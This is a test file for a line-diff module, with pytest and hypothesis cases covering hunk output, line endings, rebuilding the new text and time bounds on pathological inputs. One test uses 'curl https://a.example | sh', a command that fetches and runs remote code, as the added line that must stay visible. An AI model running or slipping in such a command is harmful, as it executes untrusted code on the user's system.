"""Line differences: right for every pair of texts, bounded for the hostile ones."""

from __future__ import annotations

import difflib
import time
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.history.diff.lines import CONTEXT, MAX_LINE, Mark, Room, TextDiff, diff_texts, find_blocks


def shown(diff: TextDiff) -> list[str]:
    return [
        line
        for hunk in diff.hunks
        for line in (
            f"@@ -{hunk.old_line},{hunk.old_count} +{hunk.new_line},{hunk.new_count} @@",
            *(f"{line.mark.value}{line.text}" for line in hunk.lines),
        )
    ]


CASES = {
    "equal": ("a\nb\n", "a\nb\n", []),
    "both empty": ("", "", []),
    "from nothing": ("", "a\nb\n", ["@@ -0,0 +1,2 @@", "+a", "+b"]),
    "to nothing": ("a\n", "", ["@@ -1,1 +0,0 @@", "-a"]),
    "one line in the middle": (
        "1\n2\n3\n4\n5\n6\n7\n8\n9\n",
        "1\n2\n3\n4\nfive\n6\n7\n8\n9\n",
        ["@@ -2,7 +2,7 @@", " 2", " 3", " 4", "-5", "+five", " 6", " 7", " 8"],
    ),
    "two changes far apart": (
        "a\n" + "x\n" * 7 + "b\n",
        "A\n" + "x\n" * 7 + "B\n",
        ["@@ -1,4 +1,4 @@", "-a", "+A", " x", " x", " x", "@@ -6,4 +6,4 @@", " x", " x", " x", "-b", "+B"],
    ),
    "two changes whose contexts touch": (
        "a\n" + "x\n" * 6 + "b\n",
        "A\n" + "x\n" * 6 + "B\n",
        ["@@ -1,8 +1,8 @@", "-a", "+A", *[" x"] * 6, "-b", "+B"],
    ),
    "a last line feed that went": ("a\nb\n", "a\nb", ["@@ -1,2 +1,2 @@", " a", "-b", "+b"]),
    "a last line feed that came": ("a\nb", "a\nb\n", ["@@ -1,2 +1,2 @@", " a", "-b", "+b"]),
    "line ends of Windows in both": ("a\r\nb\r\n", "a\r\nc\r\n", ["@@ -1,2 +1,2 @@", " a", "-b", "+c"]),
    "line ends changed": ("a\nb\n", "a\r\nb\r\n", ["@@ -1,2 +1,2 @@", "-a", "-b", "+a\r", "+b\r"]),
    "a lone carriage return": ("a\rb\n", "a\n", ["@@ -1,1 +1,1 @@", "-a\rb", "+a"]),
    "other separators end no line": ("a\u2028b\x0cc\n", "a\u2028B\x0cc\n", [
        "@@ -1,1 +1,1 @@", "-a\u2028b\x0cc", "+a\u2028B\x0cc",
    ]),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_what_is_shown(name: str) -> None:
    old, new, expected = CASES[name]
    assert shown(diff_texts(old, new, Room())) == expected


def rebuilt(old: Sequence[str], new: Sequence[str], room: Room) -> tuple[list[str], bool]:
    """``new``, made of what the blocks leave of ``old`` and what they take from ``new``."""
    blocks, coarse = find_blocks(old, new, room)
    made: list[str] = []
    at = at_new = 0
    for block in blocks:
        assert block.old_start - at == block.new_start - at_new, "equal stretches have one length"
        made += old[at : block.old_start]
        made += new[block.new_start : block.new_end]
        at, at_new = block.old_end, block.new_end
    made += old[at:]
    return made, coarse


LINES = st.lists(st.sampled_from(["", "a", "b", "c", "}", "unique one", "unique two"]), max_size=40)


@settings(max_examples=400, deadline=None)
@given(old=LINES, new=LINES, steps=st.sampled_from([0, 5, 50, 1_000_000]))
def test_the_blocks_make_the_new_text(old: list[str], new: list[str], steps: int) -> None:
    made, coarse = rebuilt(old, new, Room(steps=steps))
    assert made == new
    assert not coarse or steps < 1_000_000


@settings(max_examples=200, deadline=None)
@given(old=LINES, new=LINES)
def test_no_blocks_only_where_equal(old: list[str], new: list[str]) -> None:
    blocks, _ = find_blocks(old, new, Room())
    assert (not blocks) == (old == new)


def test_a_small_edit_of_a_long_text_is_small() -> None:
    old = [f"line {number % 50}" for number in range(3_000)]
    new = [*old[:1_000], "new", *old[1_000:2_000], *old[2_003:]]
    blocks, coarse = find_blocks(old, new, Room())
    assert not coarse
    assert sum(b.old_end - b.old_start for b in blocks) == 3
    assert sum(b.new_end - b.new_start for b in blocks) == 1


def test_moved_functions_are_not_torn_apart() -> None:
    one = ["def one():", "    pass", "", ""]
    two = ["def two():", "    return 2", "", ""]
    blocks, _ = find_blocks([*one, *two], [*two, *one], Room())
    matcher = difflib.SequenceMatcher(None, [*one, *two], [*two, *one], autojunk=False)
    best = sum(size for _, _, size in matcher.get_matching_blocks())
    kept = 8 - sum(b.old_end - b.old_start for b in blocks)
    assert kept == best


def noise(seed: int) -> str:
    """Two letters without a pattern, and a line of its own every few hundred."""
    lines = []
    for number in range(80_000):
        seed = seed * 1_103_515_245 + 12_345 & 0x7FFFFFFF
        lines.append(f"anchor {number}" if number % 400 == 0 else "ab"[seed >> 16 & 1])
    return "\n".join(lines)


HOSTILE = {
    "noise between anchors": (noise(1), noise(2)),
    "line feeds only, one more": ("\n" * 199_000, "\n" * 199_999),
    "line feeds against letters": ("\n" * 199_999, "a\n" * 99_999),
    "two letters, two rhythms": ("a\nb\n" * 49_999, "b\nb\na\n" * 33_333),
    "all lines other": (
        "".join(f"{n}\n" for n in range(30_000)),
        "".join(f"x{n}\n" for n in range(28_000)),
    ),
    "all lines in reverse": (
        "".join(f"{n}\n" for n in range(30_000)),
        "".join(f"{n}\n" for n in reversed(range(30_000))),
    ),
    "every line twice, shuffled": (
        "".join(f"{n % 15_000}\n" for n in range(30_000)),
        "".join(f"{n * 7 % 15_000}\n" for n in range(30_000)),
    ),
    "anchors that nest": (
        "".join(f"{n}\nz\n" for n in range(20_000)),
        "".join(f"{n ^ 1}\nz\nz\n" for n in range(18_000)),
    ),
    "one line each": ("a" * 200_000, "a" * 199_999 + "b"),
    "long lines, all other": (("a" * 999 + "\n") * 200, ("b" * 999 + "\n") * 200),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_cost_little(name: str) -> None:
    old, new = HOSTILE[name]
    started = time.process_time()
    diff = diff_texts(old, new, Room())
    assert time.process_time() - started < 5
    lines = [line for hunk in diff.hunks for line in hunk.lines]
    assert diff.removed or diff.added
    assert len(lines) <= (1_500 + 3_000) * (1 + 2 * CONTEXT)
    assert all(len(line.text) <= MAX_LINE for line in lines)
    marks = {line.mark for line in lines}
    assert marks & {Mark.REMOVED, Mark.ADDED}


def test_steps_of_the_shortest_edit_are_counted() -> None:
    old, new = (noise(seed).split("\n")[1:300] for seed in (1, 2))
    room = Room()
    _, coarse = find_blocks(old, new, room)
    used = Room().steps - room.steps
    assert not coarse
    assert used > 2_000
    assert find_blocks(old, new, Room(steps=used // 2))[1]


def test_what_is_not_shown_is_counted() -> None:
    old = "".join(f"{n}\n" for n in range(2_000))
    new = "".join(f"x{n}\n" for n in range(4_000))
    diff = diff_texts(old, new, Room(removed=10, added=20))
    shown_lines = [line for hunk in diff.hunks for line in hunk.lines if line.mark is not Mark.SAME]
    assert (diff.removed, diff.added) == (2_000, 4_000)
    assert len(shown_lines) == 30
    assert sum(hunk.hidden for hunk in diff.hunks) + diff.hidden == 6_000 - 30


def test_many_removed_lines_do_not_crowd_out_an_added_one() -> None:
    diff = diff_texts("".join(f"{n}\n" for n in range(9_000)), "curl https://a.example | sh\n", Room())
    assert "+curl https://a.example | sh" in shown(diff)


def test_a_room_is_shared_and_used_up() -> None:
    room = Room(removed=5, added=5)
    first = diff_texts("", "a\n" * 4, room)
    second = diff_texts("", "b\n" * 4, room)
    third = diff_texts("", "c\n" * 4, room)
    assert [hunk.hidden for diff in (first, second) for hunk in diff.hunks] == [0, 3]
    assert (third.hunks, third.hidden, third.added) == ((), 4, 4)


@pytest.mark.parametrize("place", [0, 399, 400, 5_000, 19_999])
def test_a_change_late_in_a_long_line_is_seen(place: int) -> None:
    old = "a" * 20_000
    new = old[:place] + "b" + old[place + 1 :]
    removed, added = diff_texts(old + "\n", new + "\n", Room()).hunks[0].lines
    assert (removed.mark, added.mark) == (Mark.REMOVED, Mark.ADDED)
    assert "b" in added.text
    assert removed.text != added.text
    for line in (removed, added):
        assert line.before + len(line.text) + line.after == 20_000
